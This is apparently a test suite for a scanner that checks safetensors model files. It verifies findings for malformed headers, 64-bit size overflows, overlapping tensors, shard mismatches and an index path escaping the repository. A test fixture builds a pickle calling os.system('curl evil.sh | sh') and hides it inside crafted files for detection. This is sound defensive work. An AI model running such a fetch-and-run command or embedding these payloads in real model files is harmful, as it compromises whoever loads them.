/** safetensors through the CLI: benign files pass, every header trick is a finding, shard sets are cross-checked. */
import { rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Finding } from "../src/scan/types.js";
import { scanJson } from "./helpers/run-cli.js";
import { tempFiles } from "./helpers/temp-files.js";
import { pickle } from "./writers/pickle.js";
import {
  assembleSafetensors,
  buildSafetensors,
  llamaTensors,
  type StEntry,
  writeShardedSafetensors,
} from "./writers/safetensors.js";
import { writeSparseFile } from "./writers/sparse-file.js";

const temp = tempFiles("safetensors");
const file = (bytes: Uint8Array) => temp.write("model.safetensors", bytes);
const rules = (fs: Finding[]) => fs.map((f) => `${f.ruleId}:${f.severity}`);
const text = (s: string) => new TextEncoder().encode(s);
const raw = (header: string, data: Uint8Array) => assembleSafetensors(text(header), data);
const moveTensor = (name: string, offsets: number[]) => (entries: StEntry[]) => {
  entries.find((e) => e.name === name)!.info.data_offsets = offsets;
  return entries;
};
const osSystem = pickle()
  .proto(2)
  .reduceGlobal("os", "system", (w) => w.binunicode("curl evil.sh | sh"))
  .stop()
  .bytes();

describe("safetensors: benign files", () => {
  it("passes a checkpoint as safe_save_file writes it, with tensor facts in the repository view", async () => {
    const path = file(buildSafetensors(llamaTensors({ layers: 2, dtype: "BF16" })));
    const { code, report } = await scanJson(dirname(path));
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
    expect(report.files).toEqual([
      expect.objectContaining({ path: "model.safetensors", format: "safetensors", findings: 0 }),
    ]);
    // 2 x 16 x 8 embeddings and head + 8 final norm + 2 layers x (3 x 128 mlp + 4 x 64 attention + 2 x 8 norms).
    expect(report.repository).toMatchObject({
      parameters: { total: 1576, byDtype: { BF16: 1576 }, source: "safetensors" },
    });
  });

  it("passes a sharded checkpoint as save_pretrained writes it", async () => {
    const dir = temp.dir();
    const tensors = llamaTensors({ layers: 2 });
    writeShardedSafetensors(dir, [tensors.slice(0, 12), tensors.slice(12)]);
    writeFileSync(
      join(dir, "config.json"),
      `${JSON.stringify({ architectures: ["LlamaForCausalLM"], model_type: "llama" }, null, 2)}\n`,
    );
    const { code, report } = await scanJson(dir);
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
    expect(report.files.filter((f) => f.format === "safetensors").map((f) => f.path)).toEqual([
      "model-00001-of-00002.safetensors",
      "model-00002-of-00002.safetensors",
    ]);
  });
});

describe("safetensors: header tricks", () => {
  const one = [{ name: "w", dtype: "F32", shape: [2, 2] }];

  it("a duplicate tensor name (loaders keep different entries)", async () => {
    const bytes = raw(
      '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}',
      new Uint8Array(16),
    );
    const { code, report } = await scanJson(file(bytes));
    expect(code).toBe(1);
    expect(rules(report.findings)).toEqual(["SAFETENSORS_DUPLICATE_KEY:medium"]);
    expect(report.findings[0]!.location).toBe("@62");
  });

  it("bytes after the header's JSON object", async () => {
    const bytes = buildSafetensors(one, { editHeader: (json) => `${json}{"w":1}` });
    const { code, report } = await scanJson(file(bytes));
    expect(code).toBe(1);
    expect(rules(report.findings)).toEqual(["SAFETENSORS_HEADER_INVALID:medium"]);
  });

  it("a header longer than loaders accept, or invalid UTF-8: unreadable, still recognized", async () => {
    // Above the Rust library's 100 MB limit, in a sparse file long enough to hold it.
    const tooLong = file(new Uint8Array(0));
    const start = Buffer.alloc(9);
    start.writeBigUInt64LE(100_000_001n, 0);
    start[8] = 0x7b;
    writeSparseFile(tooLong, start, 100_000_100);
    const notUtf8 = file(raw('{"\u00e9":1}', new Uint8Array(0)).fill(0xff, 10, 11));
    for (const path of [tooLong, notUtf8]) {
      const { code, report } = await scanJson(path);
      expect(code).toBe(1);
      expect(rules(report.findings)).toEqual(["SAFETENSORS_HEADER_INVALID:medium"]);
      expect(report.files[0]!.format).toBe("safetensors");
    }
    expect((await scanJson(tooLong)).report.findings[0]!.message).toMatch(
      /above the 100000000 bytes loaders accept/,
    );
  });

  it("__metadata__ with a non-string value", async () => {
    const { report } = await scanJson(file(buildSafetensors(one, { metadata: { format: "pt", step: 3 } })));
    expect(rules(report.findings)).toEqual(["SAFETENSORS_METADATA_INVALID:medium"]);
  });

  it("an unknown dtype, and a sub-byte tensor that does not fill whole bytes", async () => {
    const unknown = buildSafetensors(one, { editHeader: (json) => json.replace('"F32"', '"Q4_K"') });
    expect(rules((await scanJson(file(unknown))).report.findings)).toEqual([
      "SAFETENSORS_TENSOR_INVALID:medium",
    ]);
    const misaligned = raw('{"w":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}', new Uint8Array(2));
    expect(rules((await scanJson(file(misaligned))).report.findings)).toEqual([
      "SAFETENSORS_TENSOR_INVALID:medium",
    ]);
  });

  it("offsets that disagree with shape x dtype", async () => {
    const bytes = buildSafetensors(one, { editHeader: (json) => json.replace("[2,2]", "[2,3]") });
    const { code, report } = await scanJson(file(bytes));
    expect(code).toBe(1);
    expect(rules(report.findings)).toEqual(["SAFETENSORS_TENSOR_SIZE_MISMATCH:medium"]);
  });

  it("a shape whose size overflows 64 bits: high, critical when the offsets match the wrapped size", async () => {
    const crafted = raw(
      '{"w":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,0]}}',
      new Uint8Array(0),
    );
    const { code, report } = await scanJson(file(crafted));
    expect(code).toBe(1);
    expect(rules(report.findings)).toEqual(["SAFETENSORS_SIZE_OVERFLOW:critical"]);
    expect(report.findings[0]!.evidence).toMatchObject({ tensor: "w", wrapsAt: 64 });
    const plain = raw(
      '{"w":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,16]}}',
      new Uint8Array(16),
    );
    expect(rules((await scanJson(file(plain))).report.findings)).toEqual(["SAFETENSORS_SIZE_OVERFLOW:high"]);
  });

  it("offsets past the end of the file", async () => {
    const bytes = buildSafetensors(one, { editEntries: moveTensor("w", [0, 1 << 30]) });
    const { report } = await scanJson(file(bytes));
    expect(rules(report.findings)).toEqual([
      "SAFETENSORS_TENSOR_BOUNDS:medium",
      "SAFETENSORS_TENSOR_SIZE_MISMATCH:medium",
    ]);
  });

  it("two tensors sharing bytes", async () => {
    const bytes = buildSafetensors(
      [
        { name: "a", dtype: "F32", shape: [4] },
        { name: "b", dtype: "F32", shape: [4] },
      ],
      { editEntries: moveTensor("b", [0, 16]), append: new Uint8Array(0) },
    );
    const { report } = await scanJson(file(bytes));
    expect(rules(report.findings)).toContain("SAFETENSORS_OVERLAP:medium");
  });

  it("a pickle hidden after the last tensor is found and judged", async () => {
    const bytes = buildSafetensors(one, { append: osSystem });
    const { code, report } = await scanJson(file(bytes));
    expect(code).toBe(1);
    const dataOffset = bytes.length - osSystem.length;
    expect(report.findings.map((f) => [f.ruleId, f.severity, f.location])).toEqual([
      ["SAFETENSORS_UNCOVERED_BYTES", "medium", `@${dataOffset}`],
      ["PICKLE_DANGEROUS_GLOBAL", "critical", `[${dataOffset}]@2`],
    ]);
    expect(report.findings[1]!.evidence.call).toBe("os.system('curl evil.sh | sh')");
  });

  it("a pickle hidden in a gap between tensors", async () => {
    const gap = osSystem.length;
    const data = new Uint8Array(16 + gap);
    data.set(osSystem, 8);
    const header = `{"__metadata__":{"format":"pt"},"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[8],"data_offsets":[${8 + gap},${16 + gap}]}}`;
    const bytes = raw(header, data);
    const { report } = await scanJson(file(bytes));
    expect(rules(report.findings)).toEqual([
      "SAFETENSORS_UNCOVERED_BYTES:medium",
      "PICKLE_DANGEROUS_GLOBAL:critical",
    ]);
  });

  it("zero bytes after the last tensor: the gap is the finding, the zeros are not content", async () => {
    const bytes = buildSafetensors(one, { append: new Uint8Array(64) });
    const { code, report } = await scanJson(file(bytes));
    expect(code).toBe(1);
    expect(rules(report.findings).filter((r) => !r.endsWith(":info"))).toEqual([
      "SAFETENSORS_UNCOVERED_BYTES:medium",
    ]);
  });

  it("an unknown field in a tensor entry is worth knowing but does not fail the scan", async () => {
    const bytes = buildSafetensors(one, {
      editEntries: (entries) => {
        entries[0]!.info.loader = "custom";
        return entries;
      },
    });
    const { code, report } = await scanJson(file(bytes));
    expect(rules(report.findings)).toEqual(["SAFETENSORS_UNKNOWN_FIELD:low"]);
    expect(code).toBe(0);
  });
});

describe("safetensors: shard sets against their index", () => {
  const tensors = llamaTensors({ layers: 1 });
  const shards = [tensors.slice(0, 6), tensors.slice(6)];
  const scanSet = async (edit: (dir: string, set: ReturnType<typeof writeShardedSafetensors>) => void) => {
    const dir = temp.dir();
    const set = writeShardedSafetensors(dir, shards);
    edit(dir, set);
    return scanJson(dir);
  };
  const rewriteIndex = (set: ReturnType<typeof writeShardedSafetensors>, index: unknown) =>
    writeFileSync(set.indexPath, `${JSON.stringify(index, null, 2)}\n`);

  it("a shard the index names is missing", async () => {
    const { code, report } = await scanSet((_, set) => rmSync(set.shardPaths[1]!));
    expect(code).toBe(1);
    expect(report.findings.map((f) => [f.ruleId, f.file])).toEqual([
      ["SAFETENSORS_SHARD_MISSING", "model.safetensors.index.json"],
    ]);
  });

  it("a shard swapped for one with different tensors", async () => {
    const { report } = await scanSet((_, set) =>
      writeFileSync(
        set.shardPaths[1]!,
        buildSafetensors([...shards[1]!.slice(1), { name: "extra.weight", dtype: "BF16", shape: [8] }]),
      ),
    );
    expect(rules(report.findings)).toEqual([
      "SAFETENSORS_SHARD_TENSOR_MISMATCH:medium",
      "SAFETENSORS_SHARD_TENSOR_MISMATCH:medium",
      "SAFETENSORS_INDEX_TOTAL_SIZE:low",
    ]);
    expect(report.findings[1]!.evidence).toMatchObject({ notInIndex: ["extra.weight"] });
  });

  it("an index naming a file outside the repository", async () => {
    const { code, report } = await scanSet((_, set) =>
      rewriteIndex(set, {
        ...set.index,
        weight_map: { ...set.index.weight_map, "lm_head.weight": "../../../tmp/payload.bin" },
      }),
    );
    expect(code).toBe(1);
    expect(rules(report.findings)).toContain("SAFETENSORS_INDEX_PATH_ESCAPE:high");
  });

  it("a total_size that does not match the shards", async () => {
    const { code, report } = await scanSet((_, set) =>
      rewriteIndex(set, { ...set.index, metadata: { total_size: set.index.metadata.total_size + 2 } }),
    );
    expect(rules(report.findings)).toEqual(["SAFETENSORS_INDEX_TOTAL_SIZE:low"]);
    expect(code).toBe(0);
  });
});
